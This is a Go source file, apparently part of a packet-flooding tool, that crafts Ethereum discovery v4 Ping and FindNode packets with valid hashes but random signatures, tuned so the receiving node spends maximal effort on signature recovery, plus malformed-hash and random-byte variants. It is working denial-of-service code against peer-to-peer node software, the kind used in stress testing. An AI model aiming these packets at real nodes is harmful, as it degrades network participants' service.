package main

import (
	"net/netip"

	"github.com/ethereum/go-ethereum/crypto"
	"github.com/ethereum/go-ethereum/p2p/discover/v4wire"
)

// v4Flood makes hostile packets of discovery v4, of packets that are all right but for their signatures.
type v4Flood struct{ ping, findnode []byte }

func newV4Flood(target netip.AddrPort) (*v4Flood, error) {
	key, err := crypto.GenerateKey()
	if err != nil {
		return nil, err
	}
	to := v4wire.NewEndpoint(target, 0)
	ping, _, err := v4wire.Encode(key, &v4wire.Ping{Version: 4, From: to, To: to, Expiration: expiry()})
	if err != nil {
		return nil, err
	}
	findnode, _, err := v4wire.Encode(key, &v4wire.Findnode{Expiration: expiry()})
	return &v4Flood{ping: ping, findnode: findnode}, err
}

func (*v4Flood) kinds(name string) []string {
	switch name {
	case "mixed":
		return []string{"ping", "bytes", "findnode", "hash"}
	case "ping":
		return []string{name}
	}
	return nil
}

func (v *v4Flood) packet(f *flood, kind string, _ int) []byte {
	switch kind {
	case "hash":
		// A Ping with a wrong hash.
		f.buffer = append(f.buffer[:0], v.ping...)
		f.fill(f.buffer[:headLength])
		return f.buffer
	case "ping":
		// A Ping with the right hash of a random signature. About half of those recover, each to a key of nobody.
		return v.signed(f, v.ping)
	case "findnode":
		// The same with FindNode: nobody there has proved an endpoint.
		return v.signed(f, v.findnode)
	}
	return f.randomBytes()
}

func (*v4Flood) heard(int, []byte) {}

// signed puts a random signature into a packet that costs the other side as much as one can: `s` is a low one.
func (*v4Flood) signed(f *flood, template []byte) []byte {
	f.buffer = append(f.buffer[:0], template...)
	signature := f.buffer[hashLength:headLength]
	f.fill(signature)
	signature[32] &= 0x3f
	signature[64] &= 1
	copy(f.buffer, crypto.Keccak256(f.buffer[hashLength:]))
	return f.buffer
}
